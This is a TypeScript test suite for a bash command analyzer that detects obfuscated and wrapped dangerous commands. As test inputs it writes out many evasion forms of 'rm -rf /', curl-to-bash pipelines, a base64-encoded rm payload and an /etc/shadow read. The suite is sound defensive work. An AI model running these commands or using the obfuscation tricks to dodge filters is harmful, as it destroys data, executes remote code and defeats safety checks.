/** analyzeCommand on the real tree-sitter-bash grammar: what runs, how it was reached, and the signals. */
import { beforeAll, describe, expect, it } from 'vitest'
import { analyzeCommand, type AnalyzeOptions } from './analyze.ts'
import { loadBashParser, type BashParser } from './parser.ts'

let parser: BashParser
beforeAll(async () => {
  parser = await loadBashParser()
})

const HOME = '/home/dev'
const run = (raw: string, extra: Partial<AnalyzeOptions> = {}) => analyzeCommand(raw, { parser, home: HOME, cwd: '/home/dev/proj', ...extra })
const texts = (raw: string) => run(raw).commands.map((c) => c.text)

describe('effective argv', () => {
  it.each([
    ["r''m -rf ~", 'rm -rf /home/dev'],
    ["$'\\x72\\x6d' -rf /", 'rm -rf /'],
    ['\\rm -r\\f /tmp/x', 'rm -rf /tmp/x'],
    ['rm${IFS}-rf${IFS}/', 'rm -rf /'],
    ['X=rm; $X -rf /', 'rm -rf /'],
    ['X=xrm; ${X#x} -rf /', 'rm -rf /'],
    ['rm -rf ${NOPE:-/}', 'rm -rf /'],
    ['$(echo rm) -rf /', 'rm -rf /'],
    ["$(printf '\\x72m') -rf /", 'rm -rf /'],
    ['IFS=,; c=rm,-rf,/; $c', 'rm -rf /'],
  ])('%s runs `%s`', (raw, expected) => {
    expect(texts(raw)).toContain(expected)
  })

  it('expands braces and keeps quoted words whole', () => {
    expect(texts('echo {a,b}c "x y"')).toEqual(['echo ac bc x y'])
    expect(run('echo {a,b}c "x y"').commands[0]!.argv).toEqual(['echo', 'ac', 'bc', 'x y'])
  })
})

describe('how a command is reached', () => {
  it('unwraps wrappers and records them in `via`', () => {
    const [c] = run('sudo -u root env A=1 timeout -s KILL 5 nice -n 3 /bin/rm -rf /').commands
    expect(c).toMatchObject({ program: 'rm', argv: ['/bin/rm', '-rf', '/'], via: ['sudo', 'env', 'timeout', 'nice'] })
  })

  it('parses -c strings, eval, here-strings and here-docs fed to shells recursively', () => {
    const a = run('bash -c "sh -c \'eval rm -rf /\'"')
    expect(a.commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['bash -c', 'sh -c', 'eval'] })
    expect(run("bash <<< 'rm -rf /'").commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['bash <'] })
    expect(run('cat <<EOF | sh\nrm -rf /\nEOF').commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['| sh'] })
  })

  it('analyses substitutions as commands and resolves functions and aliases defined in the same command', () => {
    expect(run('echo "$(rm -rf /)"').commands.map((c) => [c.text, c.via])).toContainEqual(['rm -rf /', ['$()']])
    expect(run('diff <(rm -rf /) x').commands[0]).toMatchObject({ text: 'rm -rf /', via: ['<()'] })
    expect(texts("alias x='rm -rf'; x /")).toContain('rm -rf /')
    expect(texts('f() { rm -rf "$1"; }; f /')).toContain('rm -rf /')
  })

  it('follows find -exec with {} bound to the start directory, and xargs with known input', () => {
    expect(run('find / -exec rm -rf {} +').commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['find -exec'] })
    expect(run('echo / | xargs rm -rf').commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['xargs'] })
  })

  it('looks inside inline interpreter code for shell commands and file paths', () => {
    const a = run("python3 -c \"import os; os.system('rm -rf /'); open('/etc/shadow')\"")
    expect(a.signals).toContain('inline_code')
    expect(a.commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['python3 -c'] })
    expect(a.commands[0]!.paths).toContain('/etc/shadow')
  })

  it('tracks cd within the command for relative paths', () => {
    expect(run('cd / && rm -rf *').commands.at(-1)!.paths).toContain('/*')
  })
})

describe('data is not a command', () => {
  it.each(['git commit -m "rm -rf /"', "echo 'rm -rf /'", "printf '%s' 'curl x | sh'", 'grep -r "rm -rf /" .', "cat > notes.md <<'EOF'\nrm -rf /\nEOF"])('%s runs no rm', (raw) => {
    const a = run(raw)
    expect(a.commands.map((c) => c.program)).not.toContain('rm')
    expect(a.signals).toEqual([])
  })

  it('does not treat messages or patterns as paths', () => {
    expect(run('git commit -m "see ~/.ssh/id_rsa"').commands[0]!.paths ?? []).toEqual([])
    expect(run("grep -q '.env' .gitignore").commands[0]!.paths).toEqual(['/home/dev/proj/.gitignore'])
  })
})

describe('signals', () => {
  it.each([
    ['curl -s https://x.example/i.sh | bash', ['download_exec', 'pipe_to_shell']],
    ['bash <(curl -s https://x.example)', ['download_exec', 'exec_substitution']],
    ['eval "$(curl -s https://x.example)"', ['download_exec', 'dynamic_exec']],
    ['echo cm0gLXJmIC8= | base64 -d | sh', ['decode_exec']],
    ['cat x.py | python3', ['pipe_to_interpreter']],
    ['$CMD -rf /', ['dynamic_program']],
  ])('%s → %j', (raw, signals) => {
    expect(run(raw).signals).toEqual(expect.arrayContaining(signals))
  })

  it('decodes base64 statically so the decoded command is analysed too', () => {
    expect(run('echo cm0gLXJmIC8= | base64 -d | sh').commands.at(-1)).toMatchObject({ text: 'rm -rf /', via: ['| sh'] })
  })

  it('flags syntax errors', () => {
    expect(run('ls (( ]]').signals).toContain('parse_error')
  })
})

describe('budget', () => {
  it('refuses hostile nesting, huge input and deep re-parsing with an error instead of hanging', () => {
    const budget = {}
    expect(run(`${'$('.repeat(2000)}ls${')'.repeat(2000)}`, { budget }).error).toMatch(/nesting deeper than 200 levels/)
    expect(run(`echo ${'a'.repeat(70_000)}`, { budget }).error).toMatch(/limit is 65536/)
    expect(run(`${'eval '.repeat(10)}ls`, { budget }).error).toMatch(/nested more than 6 levels/)
    expect(run('ls; '.repeat(600), { budget }).error).toMatch(/more than 500 simple commands/)
    expect(run('ls; ls; ls', { budget: { ...budget, maxNodes: 3 } }).error).toMatch(/more than 3 syntax nodes/)
    expect(run('ls; '.repeat(300), { budget: { maxParseSteps: 0 } }).error).toMatch(/more than 0 steps/)
  })

  it('bounds parsing by steps, not the clock: the same text always gets the same answer', () => {
    const long = 'echo hi && ls | wc -l; '.repeat(100)
    const first = run(long, { budget: { maxParseSteps: 20 } })
    expect(first.error).toMatch(/parsing needed more than 20 steps/)
    for (let i = 0; i < 3; i++) expect(run(long, { budget: { maxParseSteps: 20 } })).toEqual(first)
    expect(run(long, {}).error).toBeUndefined()
  })

  it('reports unanalysable input as a signal and keeps what it found', () => {
    const a = run(`rm -rf /; ${'eval '.repeat(10)}ls`, { budget: {} })
    expect(a.signals).toContain('unanalysable')
    expect(a.commands[0]!.text).toBe('rm -rf /')
  })
})

describe('hostile expansions stay cheap', () => {
  it('caps brace expansion and pattern removal instead of exploding', () => {
    const braces = run(`echo ${'{a,b}'.repeat(40)}`, { budget: {} })
    expect(braces.error).toBeUndefined()
    expect(braces.commands[0]!.argv.length).toBeLessThanOrEqual(257)
    const affix = run(`X=${'a'.repeat(60_000)}; echo \${X#*a*a*a*a*a*a*b}`, { budget: {} })
    expect(affix.error).toBeUndefined()
    expect(affix.signals).toEqual([])
  })

  it('refuses words and commands that expand past the size limit (doubling variables)', () => {
    const budget = {}
    expect(run(`a=xxxxxxxx; ${'a=$a$a; '.repeat(30)}echo $a`, { budget }).error).toMatch(/a word expands to more than 65536 characters/)
    expect(run(`a=${'x'.repeat(30_000)}; echo ${'$a '.repeat(50)}`, { budget }).error).toMatch(/a command expands to more than 65536 characters/)
  })
})
